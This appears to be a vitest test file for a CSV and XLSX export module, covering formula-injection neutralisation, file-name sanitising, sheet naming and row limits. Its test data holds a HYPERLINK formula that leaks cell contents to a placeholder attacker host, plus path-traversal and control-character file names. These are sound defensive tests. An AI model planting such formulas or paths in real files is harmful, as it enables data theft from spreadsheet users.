import { describe, expect, test } from 'vitest'
import type { SheetFormat } from '#contract/file.ts'
import { readCsv, readXlsx, unzip } from '#tests/harness/sheets.ts'
import { allRows, MOST_ROWS, pageNames, writeBook, writeSheet } from './sheet.ts'
import type { SheetColumn } from './xlsx.ts'

interface Row {
  name: string
  amount: string | number | null
  day: string | null
  done: number
}

const columns: SheetColumn<Row>[] = [
  { header: 'Name', type: 'text', width: 40, value: (row) => row.name },
  { header: 'Amount', type: 'number', value: (row) => row.amount },
  { header: 'Day', type: 'date', value: (row) => row.day },
  { header: 'Done', type: 'percent', value: (row) => row.done },
]

const rows: Row[] = [
  { name: 'Footings', amount: '1234567890.0500', day: '2026-02-28', done: 45 },
  { name: 'Slab', amount: '-3.50', day: '2051-01-31 00:00:00', done: 130 },
  { name: '', amount: null, day: null, done: 0 },
]

async function written(format: SheetFormat, some: readonly Row[] = rows): Promise<Buffer> {
  const { content } = await writeSheet(format, { name: 'Things', today: '2026-11-21', columns, rows: some })
  return Buffer.from(content)
}

const named = (name: string): Row => ({ name, amount: 1, day: null, done: 0 })

/** Texts that a program could take for a formula or a command. */
const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  ' ＠SUM(1)',
]
const harmless = ['Footings = walls', '3 + 4', '1-2', 'a@b.example', "'quoted'", '(=1)', '3D view', '–']

describe('as CSV', () => {
  test('has a byte order mark, lines that end as the format says, and decimals as they were', async () => {
    const file = await written('csv')
    expect(file.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
    expect(file.toString()).toBe(
      [
        '\uFEFFName,Amount,Day,Done',
        'Footings,1234567890.0500,2026-02-28,45%',
        'Slab,-3.50,2051-01-31,130%',
        ',,,0%',
        '',
      ].join('\r\n'),
    )
  })

  test.each(formulas)('lets no text start a formula: %j', async (name) => {
    const [, [cell] = []] = readCsv(await written('csv', [named(name)]))
    expect(cell).toBe(`'${name}`)
  })

  test('nor does a header, which may hold a name that somebody else chose', async () => {
    const header = formulas[0] ?? ''
    const column: SheetColumn<Row> = { header, type: 'text', value: (row) => row.name }
    const sheet = { name: 'Things', today: '2026-11-21', columns: [column], rows }
    const [[cell] = []] = readCsv(Buffer.from((await writeSheet('csv', sheet)).content))
    expect(cell).toBe(`'${header}`)
  })

  test.each(harmless)('leaves other texts alone: %j', async (name) => {
    const [, [cell] = []] = readCsv(await written('csv', [named(name)]))
    expect(cell).toBe(name)
  })

  test('keeps commas, quotes and lines in their cell', async () => {
    const name = 'Walls, "inner"\r\nand outer'
    expect(readCsv(await written('csv', [named(name)]))[1]).toEqual([name, '1', '', '0%'])
  })
})

describe('as xlsx', () => {
  test('has numbers, days and shares as what they are', async () => {
    const { name, rows: cells } = readXlsx(await written('xlsx'))
    expect(name).toBe('Things')
    expect(cells).toEqual([
      ['Name', 'Amount', 'Day', 'Done'],
      ['Footings', 1_234_567_890.05, new Date('2026-02-28'), 0.45],
      ['Slab', -3.5, new Date('2051-01-31'), 1.3],
      [null, null, null, 0],
    ])
  })

  test.each([...formulas, ...harmless])('has texts as texts: %j', async (name) => {
    const { rows: cells, xml } = readXlsx(await written('xlsx', [named(name)]))
    expect(cells[1]?.[0]).toBe(name)
    expect(xml).not.toMatch(/<f[\s>/]/)
  })

  test.each([
    ...['constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf'],
    ...['_x0041_', 'a_x000D_b', '_x005F_x0041_', 'under_scored_x'],
    ...['<b>&amp;</b>', ' blanks around ', 'Плотина ☃ 🏗', "it's"],
  ])('has texts that the format could take for something else: %j', async (name) => {
    const { rows: cells } = readXlsx(await written('xlsx', [named(name), named('after'), named(name)]))
    expect(cells.map(([cell]) => cell)).toEqual(['Name', name, 'after', name])
  })

  test('leaves out what the format has no way to say', async () => {
    const { rows: cells } = readXlsx(await written('xlsx', [named('be\u0001low'), named('x'.repeat(40_000))]))
    expect(cells.slice(1).map(([cell]) => cell)).toEqual(['below', 'x'.repeat(32_767)])
  })

  test('has a header that stands out and stays, and columns as wide as what is in them', async () => {
    const parts = unzip(await written('xlsx'))
    const sheet = parts.get('xl/worksheets/sheet1.xml') ?? ''
    expect(sheet).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/)
    const [, style] = /<c r="A1" s="(\d+)"/.exec(sheet) ?? []
    const [, styles = ''] = /<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(parts.get('xl/styles.xml') ?? '') ?? []
    const [, font] =
      /fontId="(\d+)"/.exec([...styles.matchAll(/<xf [^>]*>/g)][Number(style)]?.[0] ?? '') ?? []
    const fonts = [...(parts.get('xl/styles.xml') ?? '').matchAll(/<font>(.*?)<\/font>/gs)]
    expect(fonts[Number(font)]?.[1]).toContain('<b/>')
    expect([...sheet.matchAll(/<col [^>]*width="(\d+)/g)].map(([, width]) => Number(width))).toEqual([
      40, 14, 12, 10,
    ])
  })

  test('may have no rows', async () => {
    expect(readXlsx(await written('xlsx', [])).rows).toEqual([['Name', 'Amount', 'Day', 'Done']])
    expect(readCsv(await written('csv', []))).toEqual([['Name', 'Amount', 'Day', 'Done']])
  })
})

describe('the file', () => {
  const nameOf = async (of?: string, format: SheetFormat = 'csv') => {
    const sheet = { name: 'Jobs', today: '2026-11-21', columns, rows: [], ...(of !== undefined && { of }) }
    return (await writeSheet(format, sheet)).fileName
  }

  test.each([
    [undefined, 'Jobs 2026-11-21.csv'],
    ['Linden Street Library Renewal', 'Jobs of Linden Street Library Renewal 2026-11-21.csv'],
    ['Straße 7', 'Jobs of Straße 7 2026-11-21.csv'],
    ['../../etc/passwd', 'Jobs of .. .. etc passwd 2026-11-21.csv'],
    ['C:\\a<b>|"c"?*', 'Jobs of C a b c 2026-11-21.csv'],
    ['two\r\nlines\u0000\u202E', 'Jobs of two lines 2026-11-21.csv'],
    ['///', 'Jobs 2026-11-21.csv'],
  ])('of %j is named %j', async (of, expected) => {
    expect(await nameOf(of)).toBe(expected)
  })

  test('of a long title keeps its day and its ending', async () => {
    expect(await nameOf(`x${'🏗'.repeat(99)}`, 'xlsx')).toBe(`Jobs of x${'🏗'.repeat(35)} 2026-11-21.xlsx`)
  })

  test('says what it is', async () => {
    const types = (['csv', 'xlsx'] as const).map(async (format) => {
      return (await writeSheet(format, { name: 'Jobs', today: '2026-11-21', columns, rows })).contentType
    })
    expect(await Promise.all(types)).toEqual([
      'text/csv; charset=utf-8',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    ])
  })
})

describe('all rows of a list', () => {
  const listOf = (length: number) => async (range: { offset: number; limit: number }) =>
    Array.from({ length }, (_, index) => index).slice(range.offset, range.offset + range.limit)

  test('are as many as fit into a spreadsheet', async () => {
    expect(await allRows(listOf(MOST_ROWS))).toHaveLength(20_000)
  })

  test('are refused, not cut off, when there are more', async () => {
    await expect(allRows(listOf(MOST_ROWS + 1))).rejects.toMatchObject({
      code: 'TOO_MANY_ROWS',
      status: 413,
      message: expect.stringContaining('Filter'),
    })
  })
})

describe('a file with several pages', () => {
  test('has each under its name', async () => {
    const page = (name: string) => ({ name, rows: [{ ...named(name) }] })
    const pages = ['Foreman', 'Field worker'].map(page)
    const { fileName, content } = await writeBook({ name: 'Things', today: '2026-11-21', columns, pages })
    expect(fileName).toBe('Things 2026-11-21.xlsx')
    const file = Buffer.from(content as Buffer)
    expect(readXlsx(file, 1)).toMatchObject({
      name: 'Foreman',
      rows: [expect.anything(), expect.arrayContaining(['Foreman'])],
    })
    expect(readXlsx(file, 2)).toMatchObject({
      name: 'Field worker',
      rows: [expect.anything(), expect.arrayContaining(['Field worker'])],
    })
  })

  test.each([
    [
      ['a/b:c?', "'quoted'", 'in [brackets]*'],
      ['a b c', 'quoted', 'in brackets'],
    ],
    [
      ['Foreman', 'FOREMAN', 'foreman'],
      ['Foreman', 'FOREMAN (2)', 'foreman (3)'],
    ],
    [
      ['x'.repeat(40), 'x'.repeat(50)],
      ['x'.repeat(31), `${'x'.repeat(27)} (2)`],
    ],
    [
      ['History', '???', ' '],
      ['History (2)', 'Page', 'Page (2)'],
    ],
  ])('names them as the format takes it', (given, names) => {
    expect(pageNames(given)).toEqual(names)
  })
})
